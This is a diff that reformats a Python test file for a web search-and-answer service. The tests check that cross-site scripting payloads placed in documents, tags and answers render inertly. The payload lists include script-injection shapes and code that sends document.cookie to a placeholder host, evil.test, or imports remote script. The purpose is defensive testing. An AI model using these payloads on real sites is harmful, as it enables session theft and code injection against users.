@@ -20,7 +20,12 @@ from corpus import Document, Passage, Section
 from index import Hit
 from index.snapshot import build
 
-CODE = ["alert(1)", "fetch('//evil.test/'+document.cookie)", "top.location='//evil.test'", "import('//evil.test/x.js')"]
+CODE = [
+    "alert(1)",
+    "fetch('//evil.test/'+document.cookie)",
+    "top.location='//evil.test'",
+    "import('//evil.test/x.js')",
+]
 SHAPES = [
     "<script>{}</script>",
     "</script><script>{}</script>",
@@ -63,7 +68,11 @@ SHAPES = [
     "' style='background:url(//evil.test/{})' x='",
     'x" data-x="{}" class="cw-ask',
 ]
-PAYLOADS = [shape.replace("{}", code).replace("{{", "{").replace("}}", "}") for shape in SHAPES for code in CODE]
+PAYLOADS = [
+    shape.replace("{}", code).replace("{{", "{").replace("}}", "}")
+    for shape in SHAPES
+    for code in CODE
+]
 INERT = {
     "html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer", "section", "article", "aside",
     "div", "span", "p", "h1", "h2", "h3", "ul", "ol", "li", "dl", "dt", "dd", "a", "q", "cite", "sup", "strong",
@@ -83,10 +92,17 @@ class Elements(HTMLParser):
         given = dict(attrs)
         ours = tag == "script" and (given.get("src") or "").startswith("/ui/")
         assert tag in INERT or ours, (tag, self._payload)
-        assert not [name for name in given if name.startswith("on") or name in ("style", "srcdoc", "formaction")]
+        assert not [
+            name
+            for name in given
+            if name.startswith("on") or name in ("style", "srcdoc", "formaction")
+        ]
         for name in ("href", "src", "action"):
             address = urlsplit(given.get(name) or "")
-            assert address.scheme in ("", "http", "https") and address.netloc in ("", "127.0.0.1"), self._payload
+            assert address.scheme in ("", "http", "https") and address.netloc in (
+                "",
+                "127.0.0.1",
+            ), self._payload
 
 
 def test_there_are_enough_of_them() -> None:
@@ -101,7 +117,9 @@ def test_messages_hold_nothing_that_acts(payload: str) -> None:
     cited = (Citation(document, 0, len(text)),)
     hits = (Hit(Passage(document, 0, len(text)), 1.0),)
     answers = [
-        Answer(payload, "answered", extracted_text(cited), hits, cited, text[:2], notices=(payload,)),
+        Answer(
+            payload, "answered", extracted_text(cited), hits, cited, text[:2], notices=(payload,)
+        ),
         Answer(payload, "absent", payload, hits, suggestions=(payload,)),
     ]
     messages = [m for answer in answers for m in growing(answer, "zh", "0" * 32)]
@@ -117,7 +135,15 @@ def client() -> Iterator[TestClient]:
         text = f"{payload}\n{payload}"
         section = Section(payload, 0, len(payload) + 1)
         documents.append(
-            Document(f"d{n}", payload, text, payload, tags=(payload,), authors=(payload,), sections=(section,))
+            Document(
+                f"d{n}",
+                payload,
+                text,
+                payload,
+                tags=(payload,),
+                authors=(payload,),
+                sections=(section,),
+            )
         )
     app = create_app(Service(build(documents, None), None, Settings()))
     with TestClient(app, base_url="http://127.0.0.1") as client:
@@ -146,10 +172,14 @@ def test_an_article_of_payloads_does_nothing_in_a_browser(browser: Browser) -> N
     chosen = PAYLOADS[::13]
     parks = [f"{name}公园" for name in "梅李桃杏桂兰菊荷槐柳榆枫松"]
     documents = [
-        Document(f"e{n}", f"{park}{payload}", f"{park}有树木{1000 + n}棵{payload}。", tags=(payload,))
+        Document(
+            f"e{n}", f"{park}{payload}", f"{park}有树木{1000 + n}棵{payload}。", tags=(payload,)
+        )
         for n, (park, payload) in enumerate(zip(parks, chosen, strict=True))
     ]
-    app = create_app(Service(build(documents, None), None, Settings(api=ApiSettings(per_minute=1000))))
+    app = create_app(
+        Service(build(documents, None), None, Settings(api=ApiSettings(per_minute=1000)))
+    )
     with serving(app) as address, visiting(browser) as page:
         bot = address.replace("127.0.0.1", "bot.test").rstrip("/")
         page.goto(f"{bot}/embed?mode=full")
